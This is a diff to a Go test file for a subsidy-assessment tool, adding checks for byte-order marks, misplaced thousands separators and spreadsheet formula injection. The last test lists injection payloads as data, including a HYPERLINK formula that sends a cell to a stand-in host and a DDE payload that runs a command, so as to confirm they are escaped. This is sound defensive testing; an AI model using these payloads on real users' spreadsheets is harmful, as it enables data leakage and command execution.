@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -55,6 +56,15 @@ func TestJSONFileAndStdin(t *testing.T) {
 	code, english, _ := assess(t, string(data), "-lang", "en")
 	if code != 0 || !strings.Contains(english, "R&D growth subsidy") {
 		t.Errorf("-lang en: exit %d", code)
+	}
+	// A file saved by Windows Notepad starts with a byte-order mark (spec/answers.md).
+	bommed := filepath.Join(t.TempDir(), "notepad.json")
+	if err := os.WriteFile(bommed, append([]byte("\ufeff"), data...), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	code, fromBOM, stderr := assess(t, "", bommed)
+	if code != 0 || fromBOM != fromFile {
+		t.Errorf("a file with a byte-order mark: exit %d, %s", code, stderr)
 	}
 }
 
@@ -140,7 +150,7 @@ func TestChineseTemplateAndGB18030(t *testing.T) {
 	words := map[string]string{
 		"企业名称": "永磁材料企业", "在稀土高新区依法登记注册并经营": "是", "机构类型": "企业", "规模以上工业企业": "是",
 		"申报“揭榜挂帅”项目": "是", "项目所属领域": "稀土新材料及应用", "申报“揭榜挂帅”项目 · 申请支持金额（不填按最高额）（万元）": "300",
-		"今年新备案的创新平台": "自治区重点实验室", "今年认定登记的技术合同交易额（万元）": "1,200", "科技型中小企业备案": "再次备案",
+		"今年新备案的创新平台": "自治区重点实验室", "今年认定登记的技术合同中技术交易额（万元）": "1,200", "科技型中小企业备案": "再次备案",
 		"高新技术企业": "再次认定", "持有有效期内的高新技术企业证书": "√", "今年研发费用（万元）": "1200", "上年研发费用（万元）": "1050",
 		"今年营业收入（万元）": "20000", "今年实际支付的贷款利息（万元）": "30",
 	}
@@ -226,6 +236,30 @@ func TestEveryBadRow(t *testing.T) {
 	}
 }
 
+// TestAmountsAsTheQuestionnaireReadsThem: a cell the questionnaire refuses is a bad row
+// naming its column, never another number ("1200,5" once paid RMB 2,401.00 of interest
+// subsidy); "1,200" is 1,200.
+func TestAmountsAsTheQuestionnaireReadsThem(t *testing.T) {
+	for _, bad := range []string{"1,2", "12,0", "1200,5"} {
+		in := "name,inZone,orgType,techSME,loanInterest\nx,true,enterprise,first,\"" + bad + "\"\n"
+		code, stdout, stderr := assess(t, in, "-csv", "-lang", "en")
+		want := `assess: row 2: column E "loanInterest": "` + bad + `": has thousands separators in the wrong place`
+		if code != 2 || stdout != "" || !strings.Contains(stderr, want) {
+			t.Errorf("%q: exit %d, stdout %q, stderr %q", bad, code, stdout, stderr)
+		}
+	}
+	in := "name,inZone,orgType,techSME,loanInterest\nx,true,enterprise,first,\"1,200\"\n"
+	code, stdout, stderr := assess(t, in, "-csv", "-lang", "en")
+	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
+	if code != 0 || err != nil || len(rows) < 2 {
+		t.Fatalf("exit %d, %v, stderr %q", code, err, stderr)
+	}
+	col := slices.IndexFunc(rows[0], func(h string) bool { return strings.HasPrefix(h, "7 ·") })
+	if col < 0 || rows[1][col] != "240.00" { // 20% of 1,200
+		t.Errorf("loan interest of \"1,200\": %q in %q", rows[1], rows[0])
+	}
+}
+
 // TestOutputs: -bom marks the CSV for Excel; -o NAME.xlsx writes a workbook whose first
 // sheet says what the CSV says; -template -o writes the .xlsx template.
 func TestOutputs(t *testing.T) {
@@ -249,6 +283,33 @@ func TestOutputs(t *testing.T) {
 	}
 	if got := firstSheet(t, tmpl); len(got) != 1 || got[0][0] != "Organisation" || got[0][1] != rules.Question(rules.English, "inZone") {
 		t.Errorf("the English template: %v", got)
+	}
+}
+
+// formulaNames are the names of testdata/formula-names.csv as they are read (a tab
+// around a cell goes): each but the last a spreadsheet would evaluate.
+var formulaNames = []string{`=HYPERLINK("http://x.example/?"&A1,"详情")`, `=cmd|' /C calc'!A0`, "+1+1", "-1+1", "@SUM(1,1)", "=1+1", "普通企业"}
+
+// TestFormulaLikeNames: names a spreadsheet would take for formulas stay text: a single
+// quote first in the CSV, as OWASP advises, and a string in the .xlsx.
+func TestFormulaLikeNames(t *testing.T) {
+	rows, _ := forecastRows(t, "", "testdata/formula-names.csv")
+	book := filepath.Join(t.TempDir(), "forecast.xlsx")
+	if code, _, stderr := assess(t, "", "-csv", "-o", book, "testdata/formula-names.csv"); code != 0 {
+		t.Fatal(stderr)
+	}
+	sheet := firstSheet(t, book)
+	for i, name := range formulaNames {
+		want := name
+		if i < len(formulaNames)-1 {
+			want = "'" + name
+		}
+		if got := rows[i+1][0]; got != want {
+			t.Errorf("CSV: %q, want %q", got, want)
+		}
+		if got := sheet[i+1][0]; got != name {
+			t.Errorf(".xlsx: %q, want %q", got, name)
+		}
 	}
 }
 
